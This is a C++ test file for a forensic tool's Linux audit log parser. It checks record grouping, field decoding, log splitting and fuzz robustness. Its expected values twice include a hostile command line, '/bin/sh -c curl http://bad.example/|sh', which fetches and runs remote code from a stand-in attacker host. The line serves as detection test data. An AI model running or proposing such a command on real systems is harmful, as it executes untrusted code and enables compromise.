#include "support/collecting_context.hpp"
#include "support/random.hpp"
#include "support/samples.hpp"
#include "traces/linux_audit/parser.hpp"
#include "traces/linux_audit/record.hpp"
#include "traces/linux_audit/system_calls.hpp"
#include <algorithm>
#include <gtest/gtest.h>

namespace konseki::linux_audit {

namespace {

struct Channels final : EventWatcher {
    std::map<std::string, int> counts;
    std::string command;
    void on_event(Event const& event, TraceOrigin const&) override
    {
        ++counts[std::string(event.channel)];
        if (auto const* value = event.find("CommandLine"))
            command = value_text(*value);
    }
};

void parse_all(std::string_view content, test::CollectingContext& collected)
{
    parser.parse({ as_bytes(content), { 0, content.size() }, "audit.log" }, collected.context);
}

std::string own_log()
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_audit/testdata/audit.log");
}

}

TEST(LinuxAudit, RecordsOfOneNumberAreOneEvent)
{
    auto const content = own_log();
    EXPECT_EQ(parser.sniff(as_bytes(content), "anything"), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, collected);
    EXPECT_EQ(collected.rows("linux.audit_record").size(), 7U);
    auto const events = collected.rows("linux.audit_event");
    ASSERT_EQ(events.size(), 3U);
    EXPECT_EQ(events[0].at("at"), "2026-01-01T00:00:00.1010000Z");
    EXPECT_EQ(events[0].at("system_call"), "execve");
    EXPECT_EQ(events[0].at("command_line"), "/bin/sh -c curl http://bad.example/|sh");
    EXPECT_EQ(events[0].at("working_folder"), "/tmp");
    EXPECT_EQ(events[0].at("paths"), "/bin/sh");
    EXPECT_EQ(events[0].at("key"), "exec");
    EXPECT_EQ(events[0].at("login_uid"), "1000");
    EXPECT_EQ(events[0].at("is_success"), "true");
    EXPECT_EQ(events[0].at("records"), "5");
    EXPECT_EQ(events[0].at("types"), "SYSCALL EXECVE CWD PATH PROCTITLE");
    EXPECT_EQ(events[1].at("target_user"), "root");
    EXPECT_EQ(events[1].at("source_address"), "192.0.2.7");
    EXPECT_EQ(events[1].at("is_success"), "false");
    EXPECT_EQ(events[1].count("login_uid"), 0U);
}

TEST(LinuxAudit, RulesSeeRecordsAndProcessesThatStart)
{
    auto const content = own_log();
    test::CollectingContext collected;
    Channels channels;
    ParseContext context { .traces = collected.traces,
        .diagnostics = collected.diagnostics,
        .events = channels,
        .shapes = collected.shapes,
        .dictionary = collected.dictionary,
        .arena = collected.arena };
    parser.parse({ as_bytes(content), { 0, content.size() }, "audit.log" }, context);
    EXPECT_EQ(channels.counts["linux/auditd"], 7);
    EXPECT_EQ(channels.counts["linux/process_creation"], 1);
    EXPECT_EQ(channels.command, "/bin/sh -c curl http://bad.example/|sh");
}

TEST(LinuxAudit, OnlyTextIsDecoded)
{
    auto const call = parse_record("type=SYSCALL msg=audit(1.000:1): a0=41424344 comm=4142 key=(null)");
    ASSERT_TRUE(call);
    EXPECT_EQ(call->find("a0"), "41424344");
    EXPECT_EQ(call->find("comm"), "AB");
    auto const node = parse_record("node=web1 type=EXECVE msg=audit(1.5:2): argc=1 a0=41424344");
    ASSERT_TRUE(node);
    EXPECT_EQ(node->node, "web1");
    EXPECT_EQ(node->find("a0"), "ABCD");
    EXPECT_FALSE(parse_record("type= msg=audit(1.000:1): x=1"));
    EXPECT_FALSE(parse_record("type=X msg=audit(1): x=1"));
    EXPECT_EQ(address_of("020001BBC0000207")->first, "192.0.2.7");
    EXPECT_EQ(address_of("020001BBC0000207")->second, 443U);
    EXPECT_EQ(system_call_name(0xc000'003e, 59), "execve");
    EXPECT_EQ(system_call_name(0xc000'00b7, 221), "execve");
    EXPECT_EQ(system_call_name(0x4000'0003, 11), "");
}

TEST(LinuxAudit, PiecesEndWhereNumbersChangeAndDamageIsSurvived)
{
    auto const content = own_log();
    for (std::uint64_t piece = 1; piece < content.size(); piece += 50) {
        std::size_t end = 0;
        for (auto const range : parser.split(as_bytes(content), piece)) {
            EXPECT_EQ(range.offset, end);
            end += range.size;
        }
        EXPECT_EQ(end, content.size());
    }
    EXPECT_EQ(parser.split(as_bytes(content), 10).size(), 3U);
    test::Random random { 3 };
    for (int round = 0; round < 1'000; ++round) {
        auto damaged = content;
        for (int i = 0; i < 4; ++i)
            damaged[random.below(damaged.size())] = static_cast<char>(random.next());
        test::CollectingContext collected;
        parse_all(damaged, collected);
    }
}

// plaso's counts [fsa 4]: 7 of selinux.log with 4 lines that are none, 29 of audit_enriched.log.
TEST(LinuxAudit, PlasosSamplesGiveTheirRecords)
{
    KONSEKI_NEEDS_DATA(folder, "linux");
    test::CollectingContext plain, enriched;
    parse_all(test::read_file(folder / "selinux.log"), plain);
    EXPECT_EQ(plain.rows("linux.audit_record").size(), 7U);
    EXPECT_EQ(plain.diagnostics.list.size(), 4U);
    parse_all(test::read_file(folder / "audit_enriched.log"), enriched);
    EXPECT_EQ(enriched.rows("linux.audit_record").size(), 29U);
    auto const events = enriched.rows("linux.audit_event");
    auto const found = std::ranges::find_if(events, [](auto const& row) {
        return row.count("command_line") != 0 && row.at("command_line").find("grep") != std::string::npos;
    });
    ASSERT_NE(found, events.end());
    EXPECT_EQ(found->at("command_line"), "/bin/sh -c grep -c . /etc/hostname");
    EXPECT_EQ(found->at("user"), "root");
}

}
